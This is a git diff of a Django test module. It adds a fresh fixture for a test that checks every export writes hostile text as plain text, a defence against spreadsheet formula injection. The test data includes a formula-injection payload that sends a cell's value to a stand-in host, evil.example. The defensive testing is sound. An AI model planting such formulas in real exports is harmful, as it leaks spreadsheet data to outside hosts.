@@ -16,14 +16,17 @@ import io
 import re
 import zipfile
 from pathlib import Path
+from typing import Any
 
+import pytest
 from django.apps import apps
+from django.core.cache import cache
 from django.db import models, transaction
 
 import cqo
 from cqo.core.exports import DANGEROUS_LEADS
 
-from .test_permission_matrix import EXPECTED, expected, kwargs_for, world  # noqa: F401
+from .matrix import EXPECTED, expected, kwargs_for, world_build
 from .urlwalk import ANONYMOUS, World, routes, url_for
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -103,7 +106,14 @@ def _csv_problems(url: str, data: bytes) -> tuple[list[str], list[str]]:
     return problems, texts
 
 
-def test_every_export_writes_hostile_text_as_text(world: World) -> None:  # noqa: F811
+@pytest.fixture
+def world(db: Any) -> World:
+    # Its own world, not the matrix's module-wide one: this test rewrites every text field.
+    cache.clear()
+    return world_build()
+
+
+def test_every_export_writes_hostile_text_as_text(world: World) -> None:
     assert _poison_every_text_field() > 0
     problems: list[str] = []
     exports: set[str] = set()
